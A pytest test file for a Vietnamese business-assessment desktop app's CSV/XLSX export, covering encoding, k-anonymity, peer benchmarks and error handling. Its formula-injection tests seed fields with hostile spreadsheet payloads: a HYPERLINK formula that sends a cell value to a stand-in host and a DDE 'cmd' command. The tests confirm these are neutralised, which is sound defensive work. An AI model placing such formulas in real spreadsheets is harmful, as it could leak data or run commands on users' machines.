"""The province table (CSV with BOM, XLSX, anonymised) and the peer benchmark."""

import csv
import datetime
import json
from collections import Counter

import pytest
from hypothesis import given, settings, strategies as st

from cds_desktop.domain.assessment import Assessor
from cds_desktop.domain.business import Business, business_problems
from cds_desktop.domain.schema import schema_problems
from cds_desktop.errors import InputError
from cds_desktop.storage import Repository
from cds_desktop.storage.benchmark import MIN_SAMPLE, benchmark
from cds_desktop.storage.spreadsheet import csv_cell
from cds_desktop.storage.table import K, k_anonymous, export_table
from storage_support import completed, draft

FORMULA = '=HYPERLINK("http://x.example/?leak="&A2,"Click")'


@pytest.fixture
def repo(tmp_path, installed_mini, workshop, shop):
    with Repository(tmp_path / "store") as repository:
        w = repository.add_business(workshop._replace(address="Km 5, Cam Lộ", contact=workshop.contact._replace(name="Anh Hùng", phone="0905111222")))
        repository.save_assessment(w.id, completed(installed_mini, workshop, level=2))
        repository.save_assessment(w.id, completed(installed_mini, workshop, level=4, stage="T1"))
        s = repository.add_business(shop)
        repository.save_assessment(s.id, draft(installed_mini))
        yield repository


def read_csv(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to show Vietnamese
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def read_xlsx(path, sheet=0):
    from openpyxl import load_workbook
    book = load_workbook(path)
    return book.worksheets[sheet], book


def test_the_csv_opens_with_correct_vietnamese(repo, tmp_path):
    assert len(export_table(repo, tmp_path / "t.csv", "csv").rows) == 3
    rows = read_csv(tmp_path / "t.csv")
    workshop_rows = [r for r in rows if r["Tên cơ sở"] == "Xưởng mộc Cam Lộ"]
    assert [r["Đợt"] for r in workshop_rows] == ["T0", "T1"]
    assert workshop_rows[0]["Khu vực ngành"] == "Công nghiệp và xây dựng"
    assert workshop_rows[0]["Xã/phường"] == "Cam Lộ" and workshop_rows[0]["Quy mô"] == "Nhỏ"
    assert workshop_rows[1]["Mức tổng thể"] == "4" and workshop_rows[1]["business — điểm"] == "80.0"
    assert workshop_rows[1]["data — mức"] == "4" and workshop_rows[1]["q_customer"] == "4"  # pillar, question
    assert workshop_rows[0]["Doanh thu năm (đồng)"] == "12000000000"  # never 1.2E+10
    assert {r["Mã lần xuất"] for r in rows} != {""} and [r["Số dòng"] for r in rows] == ["1", "2", "3"]


def test_the_named_xlsx_has_typed_cells_a_frozen_header_and_a_column_sheet(repo, tmp_path):
    table = export_table(repo, tmp_path / "t.xlsx", "xlsx", lang="en")
    sheet, book = read_xlsx(tmp_path / "t.xlsx")
    header = [c.value for c in sheet[1]]
    row = next({h: c for h, c in zip(header, r)} for r in sheet.iter_rows(min_row=2) if r[3].value == "Xưởng mộc Cam Lộ")
    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["C"].width > 10
    assert row["Tax code"].value == "3200123456" and row["Tax code"].data_type == "s"
    assert row["Tax code"].number_format == "@"  # a leading zero would stay
    assert row["Annual revenue (VND)"].value == 12_000_000_000 and row["Annual revenue (VND)"].number_format == "#,##0"
    assert row["Overall score"].data_type == "n" and row["Overall score"].number_format == "0.0"
    assert row["Overall level"].value == 2
    assert row["Assessed on"].value.date() == datetime.date.today() and row["Assessed on"].is_date
    assert row["Instrument version"].value == "1.0" and "national@" in row["Policy catalog versions"].value
    columns = book.worksheets[1]
    keys = [r[1] for r in columns.iter_rows(values_only=True)]
    assert all(c.key in keys for c in table.columns)  # every column explained


def _hostile_repo(tmp_path, instrument, workshop, count=K):
    """`count` businesses with formula-like text everywhere a user can type (communes are listed in Quảng Trị only).
    The province must be one of the 34 now, but an earlier release stored any text: written into the file as it did."""
    with Repository(tmp_path / "hostile") as repo:
        for i in range(count):
            b = repo.add_business(workshop._replace(name=f"{FORMULA} {i}", industry="=1+2", tax_code="",
                                          province="Huế", commune="@SUM(A1)", address="-2+3"))
            assessment = completed(instrument, workshop)._replace(assessor=Assessor("-Cô Lan", "=cmd|' /C calc'!A0"))
            repo.save_assessment(b.id, assessment)
    db = tmp_path / "hostile" / "cds-desktop.json"
    tables = json.loads(db.read_text(encoding="utf-8"))
    for record in tables["businesses"].values():
        record["province"] = "+Tỉnh"
    db.write_text(json.dumps(tables, ensure_ascii=False), encoding="utf-8")
    return Repository(tmp_path / "hostile")


@pytest.mark.parametrize("anonymize", [False, True])
def test_formula_text_is_never_a_formula_in_xlsx(tmp_path, installed_mini, workshop, anonymize):
    with _hostile_repo(tmp_path, installed_mini, workshop) as repo:
        export_table(repo, tmp_path / "t.xlsx", "xlsx", anonymize=anonymize)
    sheet, _ = read_xlsx(tmp_path / "t.xlsx")
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    formula_like = [c for c in cells if c.value[:1] in "=+-@"]
    assert formula_like and all(c.data_type == "s" for c in formula_like)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    values = {c.value for c in formula_like}
    assert values >= ({"@SUM(A1)", "+Tỉnh"} if anonymize else {"@SUM(A1)", "=cmd|' /C calc'!A0", "+Tỉnh"})
    assert (f"{FORMULA} 0" in values) != anonymize  # the name is only in the named table


@pytest.mark.parametrize("anonymize", [False, True])
def test_formula_text_is_prefixed_in_csv(tmp_path, installed_mini, workshop, anonymize):
    with _hostile_repo(tmp_path, installed_mini, workshop) as repo:
        export_table(repo, tmp_path / "t.csv", "csv", anonymize=anonymize)
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells = [v for row in csv.reader(fh) for v in row]
    assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t", "\r")]
    assert "'@SUM(A1)" in cells and "'+Tỉnh" in cells
    if not anonymize:
        assert f"'{FORMULA} 0" in cells and "'=1+2" in cells and "'-2+3" in cells and "'-Cô Lan" in cells


def test_csv_cells_that_would_run_get_an_apostrophe_but_numbers_do_not():
    for text in ("=1+2", "+84", "-x", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell(-5) == "-5" and csv_cell(2.5) == "2.5" and csv_cell("Đông Hà") == "Đông Hà"


def test_control_characters_in_a_name_or_address_do_not_break_the_xlsx(tmp_path, installed_mini, workshop):
    with Repository(tmp_path / "store") as repo:
        b = repo.add_business(workshop._replace(name="Xưởng\x0b mộc\x1b[31m", address="Km\x00 5\x7f"))
        repo.save_assessment(b.id, completed(installed_mini, workshop))
        export_table(repo, tmp_path / "t.xlsx", "xlsx")
        export_table(repo, tmp_path / "t.csv", "csv")
    sheet, _ = read_xlsx(tmp_path / "t.xlsx")
    values = [c.value for c in sheet[2]]
    assert "Xưởng mộc[31m" in values and "Km 5" in values
    assert "Xưởng mộc[31m" in (tmp_path / "t.csv").read_text(encoding="utf-8-sig")


def test_an_unreal_revenue_is_refused_and_a_stored_one_fails_the_export_naming_the_business(
        tmp_path, installed_mini, workshop):
    assert [p.where for p in business_problems(workshop._replace(annual_revenue_vnd=10**400))] == [
        "business.annual_revenue_vnd"]
    assert [p.where for p in business_problems(workshop._replace(employees=5_000_000))] == ["business.employees"]
    doc = {"business": {**workshop.to_json(), "total_capital_vnd": 10**400}}
    assert any("total_capital_vnd" in p.where for p in schema_problems(doc, "assessment.schema.json"))
    with Repository(tmp_path / "store") as repo:
        b = repo.add_business(workshop)
        repo.save_assessment(b.id, completed(installed_mini, workshop))
        record = dict(repo._raw("businesses")[b.id], annual_revenue_vnd=10**400)  # as an old version stored it
        repo._put("businesses", b.id, record)
        for fmt in ("csv", "xlsx"):
            with pytest.raises(InputError) as caught:
                export_table(repo, tmp_path / f"t.{fmt}", fmt, anonymize=fmt == "xlsx")
            message = caught.value.render("en")
            assert "Xưởng mộc Cam Lộ" in message and "annual_revenue_vnd" in message and "Too large" in message
            assert not (tmp_path / f"t.{fmt}").exists()


def _business(i, commune, sector="trade_services", entity="household"):
    return Business(name=f"Cơ sở {i}", entity_type=entity, sector=sector, employees=3,
                    annual_revenue_vnd=800_000_000 + i * 1_000_000, commune=commune, industry=f"Bán bánh {i}")


def test_the_anonymised_table_is_k_anonymous_and_says_what_it_removed(tmp_path, installed_mini):
    # 5 shops in Đông Hà, 3 + 3 in Cam Lộ and Gio Linh, 2 cooperatives (suppressed even province-wide); one
    # Đông Hà shop has a T1: its count of stages singles it out (left out, both rows), so the other 4 Đông Hà
    # shops are too few and go to the province with the 6 others (10 generalised).
    layout = ([("Đông Hà", "household")] * 5 + [("Cam Lộ", "household")] * 3 + [("Gio Linh", "household")] * 3
              + [("Cam Lộ", "cooperative")] * 2)
    with Repository(tmp_path / "store") as repo:
        for i, (commune, entity) in enumerate(layout):
            b = repo.add_business(_business(i, commune, entity=entity))
            repo.save_assessment(b.id, completed(installed_mini, b))
            if i == 0:
                repo.save_assessment(b.id, completed(installed_mini, b, stage="T1"))
        table = export_table(repo, tmp_path / "t.xlsx", "xlsx", lang="en", anonymize=True)
        export_table(repo, tmp_path / "t.csv", "csv", lang="en", anonymize=True)
    assert (table.generalised, table.suppressed, len(table.rows)) == (10, 4, 10)
    rows = read_csv(tmp_path / "t.csv")
    groups = {}
    for r in rows:
        key = (r["Province"], r["Commune"], r["Sector"], r["Size class"], r["Entity type"])
        groups.setdefault(key, set()).add(r["Business key (this export)"])
    assert all(len(keys) >= K for keys in groups.values())
    assert sorted(r["Commune"] for r in rows).count("") == 10
    assert {r["Rows suppressed (this export)"] for r in rows} == {"4"}
    _, book = read_xlsx(tmp_path / "t.xlsx")
    notes = [r[0] for r in book.worksheets[1].iter_rows(values_only=True)]
    assert any("10 rows generalised, 4 rows suppressed" in (n or "") for n in notes)


def test_the_anonymisation_note_counts_one_row_in_the_singular():
    from cds_desktop.storage.table import _ANON_PLACE, Table

    table = Table(columns=(), rows=[{}] * 1234, export_id="x", generalised=1, suppressed=1)
    notes = table.notes("en") + table.notes("vi")
    assert "Rows: 1,234" in notes and "Số dòng: 1.234" in notes
    table = Table(columns=_ANON_PLACE, rows=[], export_id="x", generalised=1, suppressed=1)
    assert "1 row generalised, 1 row suppressed." in table.notes("en")[-1]
    assert "1 dòng đã khái quát hoá, 1 dòng bị loại." in table.notes("vi")[-1]


def test_anonymised_ids_are_new_for_each_export_and_name_nothing_stored(tmp_path, installed_mini):
    with Repository(tmp_path / "store") as repo:
        for i in range(6):
            b = repo.add_business(_business(i, "Đông Hà"))
            repo.save_assessment(b.id, completed(installed_mini, b))
        stored_ids = [b.id for b in repo.businesses()] + [s.id for s in repo.summaries()]
        first = export_table(repo, tmp_path / "a.csv", "csv", anonymize=True)
        second = export_table(repo, tmp_path / "b.csv", "csv", anonymize=True)
    assert first.export_id != second.export_id
    text = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
    for secret in (*stored_ids, "Cơ sở", "Bán bánh", "800000000", "801000000"):
        assert secret not in text
    rows = read_csv(tmp_path / "a.csv")
    assert {r["Nhóm doanh thu"] for r in rows} == {"0–1 tỷ"} and {r["Khu vực ngành"] for r in rows} == {
        "Thương mại và dịch vụ"}
    assert len({r["Mã cơ sở (lần xuất)"] for r in rows}) == 6


def test_one_business_alone_in_its_month_and_revenue_band_cannot_be_singled_out(tmp_path, installed_mini):
    # Six shops alike in commune, sector, size and entity type (a group of 6 on those four); one of them was
    # assessed in another month and has a revenue band of its own: whoever knows that can find its row.
    with Repository(tmp_path / "store") as repo:
        for i in range(6):
            b = _business(i, "Đông Hà")
            if i == 5:
                b = b._replace(annual_revenue_vnd=20_000_000_000)
            b = repo.add_business(b)
            repo.save_assessment(b.id, completed(installed_mini, b, on=datetime.date(2026, 3, 10) if i == 5 else datetime.date(2026, 5, 4)))
        table = export_table(repo, tmp_path / "t.csv", "csv", lang="en", anonymize=True)
    rows = read_csv(tmp_path / "t.csv")
    released = Counter((r["Commune"], r["Month assessed"], r["Revenue (band)"]) for r in rows)
    assert ("Đông Hà", "2026-03", "10–50 tỷ") not in released and ("Đông Hà", "2026-03-01", "10–50 tỷ") not in released
    assert all(n >= K for n in released.values())
    # The five alike are released as they are; the one alone, alike to no other even province-wide without
    # month and bands, is left out, and the table says so.
    assert (table.generalised, table.suppressed, len(rows)) == (0, 1, 5)
    assert {r["Rows suppressed (this export)"] for r in rows} == {"1"}


_PROFILE_ROW = st.fixed_dictionaries({  # few values, so that groups of K form and must be checked
    "province": st.sampled_from(["Quảng Trị", "Huế"]), "commune": st.sampled_from(["A", "B", ""]),
    "sector": st.just("s1"), "_size": st.sampled_from(["micro", "small"]),
    "entity_type": st.just("household"), "employee_band": st.sampled_from(["0", "1–9"]),
    "revenue_band": st.sampled_from(["0–1 tỷ", "1–3 tỷ"]), "capital_band": st.sampled_from(["0–1 tỷ", ""])})
_ASSESSMENT_ROW = st.fixed_dictionaries({
    "_business": st.integers(0, 40), "stage": st.sampled_from(["T0", "T1", "T2"]),
    "assessed_month": st.sampled_from([datetime.date(2026, m, 1) for m in (1, 2, 7)] + [None]),
    "overall_score": st.floats(0, 100)})


@settings(max_examples=150, deadline=None)
@given(st.lists(_PROFILE_ROW, min_size=41, max_size=41), st.lists(_ASSESSMENT_ROW, max_size=160))
def test_every_released_row_is_in_a_group_of_at_least_k_businesses_over_all_quasi_identifiers(profiles, rows):
    # what an outsider may know: place, sector, size, entity type, bands, when assessed, its stages (and so how many)
    quasi_identifiers = ("province", "commune", "sector", "_size", "entity_type", "employee_band", "revenue_band",
                         "capital_band", "stage", "assessed_month")
    rows = [{**profiles[r["_business"]], **r, "row": n} for n, r in enumerate(rows)]  # a business has one profile
    kept, generalised, suppressed = k_anonymous([dict(r) for r in rows])
    released = (*quasi_identifiers, "commune_generalised")
    # the counts add up, and no row is released twice
    assert len(kept) + suppressed == len(rows) and 0 <= generalised <= len(kept)
    assert len({r["row"] for r in kept}) == len(kept)
    changed = sum(any(r[k] != rows[r["row"]][k] for k in quasi_identifiers) for r in kept)
    assert changed <= generalised  # every row whose cells were withheld is counted as generalised
    groups: dict = {}
    for r in kept:
        groups.setdefault(tuple(r[k] for k in released), set()).add(r["_business"])
    assert all(len(b) >= K for b in groups.values())  # so K rows too
    # a business's rows together (linked by the business key) match K businesses' rows as well
    signatures: dict = {}
    for r in kept:
        signatures.setdefault(r["_business"], []).append(tuple(str(r[k]) for k in released))
    alike = Counter(tuple(sorted(v)) for v in signatures.values())
    assert all(alike[tuple(sorted(v))] >= K for v in signatures.values())
    # a business is kept whole or left out whole
    assert {r["_business"] for r in kept}.isdisjoint(
        {r["_business"] for r in rows} - {r["_business"] for r in kept}) and \
        Counter(r["_business"] for r in kept) == Counter(r["_business"] for r in rows
                                                          if r["_business"] in {k["_business"] for k in kept})


def test_size_bands_hide_the_figures():
    from cds_desktop.storage.table import employee_band, money_band
    assert [employee_band(n) for n in (None, 0, 7, 10, 99, 250)] == ["", "0", "1–9", "10–49", "50–99", "≥ 200"]
    assert [money_band(v) for v in (2_999_999_999, 3_000_000_000, 400 * 10**9)] == ["1–3 tỷ", "3–10 tỷ", "≥ 300 tỷ"]


def _peers(repo, instrument, business, count, level=3):
    for i in range(count):
        peer = repo.add_business(business._replace(name=f"Cơ sở {i}", tax_code=""))
        repo.save_assessment(peer.id, completed(instrument, business, level=level))


def test_benchmark_is_hidden_below_five_peers_but_gives_the_sample_size(repo, installed_mini, workshop):
    own = repo.assessments_of(repo.businesses()[-1].id)[0]  # the workshop's T0
    _peers(repo, installed_mini, workshop, MIN_SAMPLE - 1)
    result = benchmark(repo, own.id)
    assert result.sample_size == MIN_SAMPLE - 1 and result.hidden
    assert all(a.mean is None and a.median is None for a in result.areas)
    assert "chưa đủ 5" in result.describe("vi")


def test_benchmark_uses_the_same_sector_and_one_assessment_per_business(repo, installed_mini, workshop, shop):
    workshop_id = next(b.id for b in repo.businesses() if b.name == "Xưởng mộc Cam Lộ")
    own = repo.assessments_of(workshop_id)[0]
    _peers(repo, installed_mini, workshop, 4, level=2)
    _peers(repo, installed_mini, workshop, 2, level=4)  # 6 small industrial peers
    _peers(repo, installed_mini, shop, 5, level=5)  # other sector: ignored
    result = benchmark(repo, own.id)
    assert result.sample_size == 6 and result.size_class == "small"
    business = next(a for a in result.areas if a.id == "business")
    assert business.median == 40.0 and business.mean == pytest.approx((4 * 40 + 2 * 80) / 6, abs=0.05)


def test_benchmark_says_who_the_peers_are_in_each_language():
    from cds_desktop.storage.benchmark import Benchmark, Comparison

    def said(peers, size_class, lang):
        hidden = Comparison("overall", None, None, None, peers)
        return Benchmark("x", "agriculture_forestry_fishery", size_class, peers, hidden, ()).describe(lang)

    assert said(299, "small", "en") == "299 other small businesses in Agriculture, forestry and fishery"
    assert said(1234, "medium", "en") == "1,234 other medium-sized businesses in Agriculture, forestry and fishery"
    assert said(1, None, "en") == "1 other business in Agriculture, forestry and fishery: fewer than 5, too few to compare"
    assert said(1234, "micro", "vi") == "1.234 cơ sở khác cùng khu vực Nông, lâm nghiệp và thủy sản, quy mô siêu nhỏ"


def test_benchmark_widens_to_every_size_when_too_few_of_the_same_size(repo, installed_mini, workshop):
    workshop_id = next(b.id for b in repo.businesses() if b.name == "Xưởng mộc Cam Lộ")
    own = repo.assessments_of(workshop_id)[0]
    _peers(repo, installed_mini, workshop, 2)
    _peers(repo, installed_mini, workshop._replace(employees=5, annual_revenue_vnd=1_000_000_000), 3)  # micro
    result = benchmark(repo, own.id)
    assert result.size_class is None and result.sample_size == 5 and not result.hidden


def test_an_xlsx_export_onto_a_full_disk_says_so_without_a_traceback(repo, tmp_path, monkeypatch, capsys):
    """The disk filled while openpyxl wrote its zip: the message was right, then Python printed 'Exception
    ignored in: ZipFile.__del__' with a traceback as the half-written zip was thrown away."""
    import gc
    import io
    import sys

    unraisable = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    real_open = io.open

    class Full(io.FileIO):
        def write(self, data):
            raise OSError(28, "No space left on device")

    def full_open(file, mode="r", *args, **kwargs):
        if str(file).startswith(str(tmp_path / ".table.xlsx.")) and "w" in mode:
            return Full(file, mode)
        return real_open(file, mode, *args, **kwargs)
    monkeypatch.setattr("builtins.open", full_open)
    monkeypatch.setattr(io, "open", full_open)
    with pytest.raises(InputError, match=r"\(the disk is full\)"):
        export_table(repo, tmp_path / "table.xlsx", "xlsx")
    gc.collect()
    assert not unraisable and not list(tmp_path.glob("*.xlsx")) and not list(tmp_path.glob(".table*"))


def test_the_anonymised_table_carries_no_assessor_typed_as_free_text(tmp_path, installed_mini):
    """The organisation box is typed freely ("Nguyễn Văn An, 0905 123 456"): the named table keeps it, the
    anonymised one, which leaves the office, does not."""
    with Repository(tmp_path / "store") as repo:
        for i in range(K):
            b = repo.add_business(_business(i, "Đông Hà"))
            repo.save_assessment(b.id, completed(installed_mini, b)._replace(
                                               assessor=Assessor("Lan", "Nguyễn Văn An, 0905 123 456")))
        export_table(repo, tmp_path / "anon.csv", "csv", lang="en", anonymize=True)
        export_table(repo, tmp_path / "named.csv", "csv", lang="en")
    assert "Nguyễn Văn An" not in (tmp_path / "anon.csv").read_text(encoding="utf-8-sig")
    assert "Nguyễn Văn An" in (tmp_path / "named.csv").read_text(encoding="utf-8-sig")
